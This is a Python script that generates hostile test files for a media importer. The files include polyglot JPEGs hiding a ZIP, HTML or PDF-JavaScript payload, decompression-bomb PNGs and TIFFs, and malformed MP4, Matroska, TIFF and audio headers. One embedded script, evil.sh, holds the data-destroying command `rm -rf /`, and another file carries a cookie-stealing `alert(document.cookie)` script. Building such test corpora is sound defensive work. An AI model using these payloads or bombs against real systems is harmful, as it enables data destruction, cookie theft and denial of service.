#!/usr/bin/python3
"""Makes files that are meant to harm whoever reads them.

hostile_files.py FOLDER MOVIE.mkv

All are small on disk. The name says what an import should do: `whole` imports the file, which is sound media and something
else as well; `bad-` refuses it; `bomb-` does either, at bounded cost.
"""
import os, struct, sys, zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def zeros(size):
    """A zlib stream of so many zeros, made without compressing them all."""
    piece = 1 << 20
    count, rest = divmod(size, piece)
    coder = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush a block stands for itself, so that it may be repeated.
    block = coder.compress(bytes(piece)) + coder.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = end.compress(bytes(rest)) + end.flush()
    return b"\x78\xda" + block * count + tail + struct.pack(">I", (size % 65521) << 16 | 1)


def png(width, height, data=None, bits=8, color=0):
    """Of one colour; with other data than its pixels where that is given."""
    channels = {0: 1, 2: 3, 6: 4}[color]
    if data is None:
        data = zeros(height * (1 + (width * bits * channels + 7) // 8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, color, 0, 0, 0))
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def box(kind, body=b""):
    return struct.pack(">I", 8 + len(body)) + kind + body


def nested_boxes(kinds, depth):
    """Written from the outside in: every box reaches to the end."""
    return b"".join(struct.pack(">I", 8 * (depth - at)) + kinds[at % len(kinds)] for at in range(depth))


def mp4(*boxes):
    return box(b"ftyp", b"isom\0\0\2\0isommp42") + b"".join(boxes)


def trak(*tables):
    entry = box(b"avc1", bytes(6) + b"\0\1" + bytes(16) + struct.pack(">HH", 64, 64) + bytes(50))
    media = box(b"mdhd", bytes(12) + struct.pack(">II", 1000, 1000) + bytes(4))
    media += box(b"hdlr", bytes(8) + b"vide" + bytes(13))
    stbl = box(b"stbl", box(b"stsd", bytes(4) + struct.pack(">I", 1) + entry) + b"".join(tables))
    return box(b"trak", box(b"tkhd", bytes(84)) + box(b"mdia", media + box(b"minf", stbl)))


def table(kind, *numbers):
    return box(kind, bytes(4) + struct.pack(f">{len(numbers)}I", *numbers))


def element(number, body, size=None):
    """Of EBML; the size may be a lie."""
    return number + (size or (0x0100000000000000 | len(body)).to_bytes(8, "big")) + body


UNKNOWN = b"\x01" + b"\xff" * 7
LARGEST = b"\x01" + b"\xff" * 6 + b"\xfe"
TYPE, VERSION, READERS = element(b"\x42\x82", b"matroska"), element(b"\x42\x87", b"\4"), element(b"\x42\x85", b"\2")
HEAD = element(b"\x1a\x45\xdf\xa3", TYPE + VERSION + READERS)
SEGMENT, CLUSTER = b"\x18\x53\x80\x67", b"\x1f\x43\xb6\x75"
TAGS, TAG, SIMPLE = b"\x12\x54\xc3\x67", b"\x73\x73", b"\x67\xc8"
CHAPTERS, EDITION, CHAPTER = b"\x10\x43\xa7\x70", b"\x45\xb9", b"\xb6"


def nested_elements(head, kind, depth):
    sizes = ((depth - at - 1) * (len(kind) + 8) for at in range(depth))
    body = b"".join(kind + (0x0100000000000000 | size).to_bytes(8, "big") for size in sizes)
    for number in reversed(head):
        body = element(number, body)
    return body


def tiff(*entries, tail=b"", following=0):
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + body + struct.pack("<I", following) + tail


def strips(width, height, compression, place, size, more=()):
    return [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression), (262, 3, 1, 1),
            (273, 4, 1, place), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, size), *more]


def jpeg(kind, width, height, scans):
    """Grey, of a frame's head and so many empty scans."""
    quantization = b"\xff\xdb\0\x43\0" + b"\x01" * 64
    huffman = b"".join(b"\xff\xc4\0\x14" + bytes([place]) + b"\x01" + bytes(15) + b"\0" for place in (0x00, 0x10))
    frame = b"\xff" + kind + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\0"
    first = b"\xff\xda\0\x08\x01\x01\0" + (b"\0\0\0" if kind == b"\xc2" else b"\0\x3f\0") + b"\0"
    later = b"\xff\xda\0\x08\x01\x01\0\x01\x3f\0" + b"\0"
    return b"\xff\xd8" + quantization + huffman + frame + first + later * (scans - 1) + b"\xff\xd9"


def comment(photo, text):
    """A JPEG with a text in its comment, where programs that look for it find it within the first bytes."""
    return photo[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(text)) + text + photo[2:]


def zipped(name, data):
    head = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0)
    local = b"PK\3\4" + head + name + data
    central = b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return local, central


def archive(data, before=0):
    local, central = zipped(b"evil.sh", data)
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), before + len(local), 0)


SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
DOCUMENT = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
            b"trailer<</Root 1 0 R>>")


def files(photo, movie):
    end = mp4(box(b"moov", box(b"mvhd", bytes(100))))
    yield "whole.jpg", photo
    yield "whole-zip.jpg", photo + archive(b"#!/bin/sh\nrm -rf /\n", len(photo))
    yield "whole-html.jpg", comment(photo, SCRIPT)
    yield "whole-pdf.jpg", comment(photo, DOCUMENT)
    yield "whole-mp4.jpg", photo + end
    yield "whole-matroska.png", movie

    yield "bad-html-first.jpg", SCRIPT + photo
    yield "bad-zip-first.jpg", archive(photo)
    yield "bad-pdf-first.jpg", DOCUMENT + photo
    gzip = zlib.compressobj(9, zlib.DEFLATED, 31)
    yield "bad-gzip.jpg", gzip.compress(photo) + gzip.flush()
    yield "bad-script.gif", b"GIF89a/*" + bytes(5) + b"*/=1;alert(1)//;"
    yield "bad-pdf.mp4", box(b"ftyp", b"isom\0\0\2\0" + DOCUMENT)
    yield "bad-too-large.png", png(65535, 65535, zlib.compress(b""))
    yield "bad-beyond-31-bits.png", png(0xffffffff, 0xffffffff, zlib.compress(b""))
    yield "bad-no-pixels.png", png(30000, 30000, zlib.compress(b""))
    yield "bad-few-pixels.png", png(15900, 15900, zlib.compress(b""), 16, 6)
    yield "bad-large.gif", (b"GIF89a" + struct.pack("<HHBBB", 32000, 32000, 0, 0, 0) + b"\x2c" + bytes(4)
                            + b"\1\0\1\0\0\2\0;")
    yield "bad-progressive.jpg", jpeg(b"\xc2", 32000, 32000, 1)
    yield "bad-scans.jpg", jpeg(b"\xc2", 1000, 1000, 20000)
    yield "bad-too-large.jpg", jpeg(b"\xc0", 65500, 65500, 1)
    yield "bad-strip.tif", tiff(*strips(30000, 30000, 1, 8, 0xffffffff))
    yield "bad-strip.dng", tiff(*strips(30000, 30000, 5, 8, 0xfffffff0, [(50706, 1, 4, 1025)]))
    yield "bad-circle.tif", tiff((330, 4, 1, 8), (34665, 4, 1, 8), following=8)
    yield "bad-many.tif", tiff(*[(330, 4, 0xffffffff, 8)] * 65535)
    yield "bad-nested.mp4", mp4(nested_boxes([b"moov"], 200_000))
    kinds = [b"moov", b"trak", b"mdia", b"minf", b"stbl", b"udta", b"meta"]
    yield "bad-nested-kinds.mp4", mp4(nested_boxes(kinds, 200_000))
    yield "bad-many.mp4", mp4(box(b"moov", box(b"trak") * 200_000))
    most, many = 0xffffffff, 0x7fffffff
    tables = table(b"stsz", 0, most), table(b"stco", most, 0), table(b"stsc", most, 1, 1, 1), table(b"stts", most, 1, 1)
    yield "bad-samples.mp4", mp4(box(b"moov", trak(*tables)))
    tables = table(b"stsz", 1, many), table(b"stco", 1, 0), table(b"stsc", 1, 1, many, 1), table(b"stts", 1, many, 1)
    yield "bad-samples-of-one-size.mp4", mp4(box(b"moov", trak(*tables)))
    yield "bad-size.mp4", mp4(struct.pack(">I4sQ", 1, b"moov", 2**63 - 1))
    yield "bad-size-wraps.mp4", mp4(struct.pack(">I4sQ", 1, b"moov", 2**64 - 8))
    yield "bad-tags.mkv", HEAD + element(SEGMENT, nested_elements([TAGS, TAG], SIMPLE, 100_000))
    yield "bad-chapters.mkv", HEAD + element(SEGMENT, nested_elements([CHAPTERS, EDITION], CHAPTER, 100_000))
    yield "bad-endless.mkv", HEAD + (SEGMENT + UNKNOWN) * 100_000
    yield "bad-clusters.mkv", HEAD + SEGMENT + UNKNOWN + (CLUSTER + UNKNOWN) * 100_000
    yield "bad-size.mkv", HEAD + element(SEGMENT, b"", LARGEST)
    yield "bad-size-within.mkv", HEAD + element(SEGMENT, element(TAGS, b"", LARGEST), UNKNOWN)
    yield "bad-head.mkv", b"\x1a\x45\xdf\xa3" + LARGEST
    sound = struct.pack("<IHHIIHH", 16, 1, 65535, most, most, 65535, 64)
    yield "bad-sound.wav", b"RIFF" + struct.pack("<I", most - 15) + b"WAVEfmt " + sound + b"data" + struct.pack("<I", most - 15)
    yield "bad-tag.mp3", b"ID3\3\0\0\x7f\x7f\x7f\x7f" + bytes(1000)

    yield "bad-8-bit.png", png(30000, 30000)
    yield "bad-1-bit.png", png(32000, 32000, None, 1)
    yield "bomb-text.png", png(1, 1)[:33] + chunk(b"zTXt", b"a\0\0" + zeros(400 << 20)) + png(1, 1)[33:]
    yield "bomb-1-bit.png", png(16000, 16000, None, 1)
    strip = zeros(12000 * 12000)
    yield "bomb-strip.tif", tiff(*strips(12000, 12000, 8, 122, len(strip)), tail=strip)


def main():
    folder, movie = sys.argv[1:]
    for name, data in files(jpeg(b"\xc0", 16, 16, 1), open(movie, "rb").read()):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(data)


main()
